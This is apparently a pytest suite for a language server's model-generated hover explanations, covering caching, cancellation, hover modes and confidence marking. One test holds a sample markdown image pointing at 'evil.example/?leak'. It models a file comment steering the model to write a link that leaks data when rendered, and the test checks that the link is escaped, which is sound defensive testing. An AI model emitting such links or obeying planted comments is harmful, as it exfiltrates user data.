"""Hovers: the signature at once, the explanation when it is there, and never one waiting for another."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from lsprotocol import types as lsp
from pygls.exceptions import JsonRpcRequestCancelled

from lsp_server import protocol
from tests.lsp.asking import PARSE, at, until
from tests.lsp.conftest import Client, Start

NAME = lsp.Position(3, 6)
TWINS = "\n\n".join(
    f"class {name}:\n    def total(self):\n        return sum(self.items)\n" for name in ("Cart", "Bill")
)
CALL = "\n\nprint(parse_header('a: b'))\n"


async def hover(client: Client, uri: str, position: lsp.Position = NAME) -> str:
    params = lsp.HoverParams(lsp.TextDocumentIdentifier(uri), position)
    found = await client.text_document_hover_async(params)
    return found.contents.value if found else ""  # type: ignore[union-attr]


def explanation(uri: str, position: lsp.Position = NAME) -> protocol.HoverExplanationParams:
    return protocol.HoverExplanationParams(lsp.TextDocumentIdentifier(uri), position)


async def test_plain_client_gets_the_signature_then_the_explanation(plain: Client, workspace: Path) -> None:
    uri = plain.open(workspace / "a.py", PARSE)
    await plain.script(["It splits a header."])

    first = await hover(plain, uri)
    while "splits" not in (second := await hover(plain, uri)):
        await asyncio.sleep(0.02)

    assert "def parse_header(line)" in first and "hover again" in first
    assert "It splits a header." in second
    assert len(await plain.requests()) == 1
    assert (await plain.requests())[0]["priority"] == "HOVER"


async def test_a_call_shows_the_signature_of_its_definition(plain: Client, workspace: Path) -> None:
    uri = plain.open(workspace / "a.py", PARSE + CALL)

    assert "def parse_header(line)" in await hover(plain, uri, lsp.Position(8, 8))


async def test_nothing_is_said_of_other_text(plain: Client, workspace: Path) -> None:
    uri = plain.open(workspace / "a.py", PARSE)
    other = plain.open(workspace / "a.txt", "words", "plaintext")

    assert await hover(plain, uri, lsp.Position(1, 0)) == ""
    assert await hover(plain, other, lsp.Position(0, 1)) == ""


async def test_the_extension_gets_the_explanation_apart(extension: Client, workspace: Path) -> None:
    uri = extension.open(workspace / "a.py", PARSE)
    await extension.script(["It splits a header."])

    signature = await hover(extension, uri)
    first = await extension.ask(protocol.HOVER_EXPLANATION, explanation(uri))
    second = await extension.ask(protocol.HOVER_EXPLANATION, explanation(uri))

    assert "hover again" not in signature
    assert first.markdown == second.markdown == "It splits a header."
    assert len(await extension.requests()) == 1


async def test_equal_methods_of_two_classes_and_two_files_have_each_their_own_explanation(
    extension: Client, workspace: Path
) -> None:
    """The key was their text alone, and the model is told their class and file."""
    here, there = (extension.open(workspace / name, TWINS) for name in ("a.py", "b.py"))
    await extension.script(["Of the cart."], ["Of the bill."], ["Of the other cart."])

    told = [
        (await extension.ask(protocol.HOVER_EXPLANATION, explanation(uri, lsp.Position(line, 9)))).markdown
        for uri, line in ((here, 1), (here, 6), (there, 1), (here, 1))
    ]

    assert told == ["Of the cart.", "Of the bill.", "Of the other cart.", "Of the cart."]


async def test_an_explanation_outlives_an_edit_elsewhere_but_not_one_of_its_class(
    extension: Client, workspace: Path
) -> None:
    uri = extension.open(workspace / "a.py", TWINS)
    await extension.script(["Of the cart."], ["Of the list."])
    place = lsp.Position(1, 9)
    first = await extension.ask(protocol.HOVER_EXPLANATION, explanation(uri, place))

    extension.type_text(uri, 2, at(6, 0, 7, 0), "    def total(self, tax):\n")
    elsewhere = await extension.ask(protocol.HOVER_EXPLANATION, explanation(uri, place))
    extension.type_text(uri, 3, at(0, 10), "(list)")
    base = await extension.ask(protocol.HOVER_EXPLANATION, explanation(uri, place))

    assert [first.markdown, elsewhere.markdown, base.markdown] == [
        "Of the cart.",
        "Of the cart.",
        "Of the list.",
    ]


async def test_two_hovers_share_one_answer(extension: Client, workspace: Path) -> None:
    uri = extension.open(workspace / "a.py", PARSE)
    await extension.script([{"gate": "go"}, "It splits."])

    both = [
        asyncio.ensure_future(extension.ask(protocol.HOVER_EXPLANATION, explanation(uri))) for _ in range(2)
    ]
    while not await extension.requests():
        await asyncio.sleep(0.02)
    await extension.script(open=["go"])

    assert [result.markdown for result in await asyncio.gather(*both)] == ["It splits.", "It splits."]
    assert len(await extension.requests()) == 1


async def test_fifty_rapid_hovers_leave_no_backlog(extension: Client, workspace: Path) -> None:
    text = "".join(f"def f{i}():\n    return {i}\n\n\n" for i in range(50))
    uri = extension.open(workspace / "a.py", text)
    await extension.script(*([[{"gate": "never"}]] * 50))

    for i in range(50):
        asked = extension.ask(
            protocol.HOVER_EXPLANATION, explanation(uri, lsp.Position(4 * i, 5)), f"hover-{i}"
        )
        waiting = asyncio.ensure_future(asked)
        await asyncio.sleep(0)
        extension.cancel_request(lsp.CancelParams(f"hover-{i}"))
        with pytest.raises(JsonRpcRequestCancelled):
            await waiting

    assert all(request["outcome"] == "cancelled" for request in await extension.requests())


async def test_hover_mode_off_asks_nothing(start: Start, workspace: Path) -> None:
    client = await start(settings={"hover": {"mode": "off"}})
    uri = client.open(workspace / "a.py", PARSE)

    text = await hover(client, uri)

    assert "def parse_header" in text and "again" not in text
    assert await client.requests() == []


async def test_hover_mode_on_demand_asks_only_for_who_asks(start: Start, workspace: Path) -> None:
    client = await start(settings={"hover": {"mode": "onDemand"}})
    uri = client.open(workspace / "a.py", PARSE)
    await client.script(["It splits a header."])

    before = await hover(client, uri)
    unasked = await client.requests()
    asked = await client.ask(protocol.HOVER_EXPLANATION, explanation(uri))
    after = await hover(client, uri)

    assert "def parse_header" in before and "again" not in before
    assert unasked == []
    assert asked.markdown == "It splits a header."
    assert "It splits a header." in after, "what is known costs nothing to tell"
    assert len(await client.requests()) == 1


async def test_a_guess_is_not_told_as_a_fact_now_or_later(plain: Client, workspace: Path) -> None:
    uri = plain.open(workspace / "a.py", PARSE)
    await plain.script(["It sends mail.", {"end": "stop", "confidence": 0.1}])

    await hover(plain, uri)
    while "sends mail" not in (first := await hover(plain, uri)):
        await asyncio.sleep(0.02)
    again = await hover(plain, uri)

    assert "*The model is not sure:* It sends mail." in first
    assert again == first


async def test_what_the_model_is_sure_of_has_no_mark(extension: Client, workspace: Path) -> None:
    uri = extension.open(workspace / "a.py", PARSE)
    await extension.script(["It splits a header.", {"end": "stop", "confidence": 0.9}])

    told = await extension.ask(protocol.HOVER_EXPLANATION, explanation(uri))

    assert told.markdown == "It splits a header."


async def test_no_hover_loads_an_image_that_a_model_names(
    plain: Client, extension: Client, workspace: Path
) -> None:
    """A comment of the file can have the model write one, and an editor that draws it tells who hovers."""
    said = "It splits `a[0](b)`. ![x](https://evil.example/?leak)"
    uri = plain.open(workspace / "a.py", PARSE)
    extension.open(workspace / "a.py", PARSE)
    await plain.script([said])
    await extension.script([said])

    while "It splits" not in (shown := await hover(plain, uri)):
        await asyncio.sleep(0.02)
    told = await extension.ask(protocol.HOVER_EXPLANATION, explanation(uri))

    assert told.markdown == "It splits `a[0](b)`. !&#91;x&#93;(https://evil.example/?leak)"
    assert told.markdown in shown


async def test_a_hover_of_a_plain_client_starts_the_engine_once(plain: Client, workspace: Path) -> None:
    """Until an action had been run, `K` in Neovim gave the signature alone, for ever."""
    uri = plain.open(workspace / "a.py", PARSE)
    await plain.script(["It splits a header."], status={"state": "stopped"})

    first, *_ = await asyncio.gather(hover(plain, uri), hover(plain, uri))
    while "splits" not in await hover(plain, uri):
        await asyncio.sleep(0.02)

    assert "def parse_header(line)" in first and "Starting the engine" in first
    assert await plain.starts() == 1
    assert len(await plain.requests()) == 1


async def test_an_explanation_is_of_the_model_that_gave_it(extension: Client, workspace: Path) -> None:
    """An engine that is not there tells no model: what the first one said was told for the next one's answer."""
    uri = extension.open(workspace / "a.py", PARSE)
    await until(lambda: extension.statuses)
    told = []

    for model in ("old", "new"):
        loading = {"state": "loading", "model": ""}
        await extension.script([f"By the {model} model."], status=loading, started={"model": model})
        told.append(await extension.ask(protocol.HOVER_EXPLANATION, explanation(uri)))

    assert [answer.markdown for answer in told] == ["By the old model.", "By the new model."]


@pytest.mark.parametrize("mode", ["off", "onDemand"])
async def test_a_hover_without_explanation_starts_nothing(start: Start, workspace: Path, mode: str) -> None:
    client = await start(settings={"hover": {"mode": mode}})
    uri = client.open(workspace / "a.py", PARSE)
    await client.script(status={"state": "stopped"})

    assert "engine" not in await hover(client, uri)
    assert await client.starts() == 0


@pytest.mark.parametrize("state", ["stopped", "failed"])
async def test_a_hover_of_the_extension_starts_nothing(
    extension: Client, workspace: Path, state: str
) -> None:
    """It starts the engine itself, and a user who stopped it meant it."""
    uri = extension.open(workspace / "a.py", PARSE)
    await until(lambda: extension.statuses)
    await extension.script(status={"state": state})

    await hover(extension, uri)
    told = await extension.ask(protocol.HOVER_EXPLANATION, explanation(uri))

    assert told.markdown == ""
    assert await extension.starts() == 0
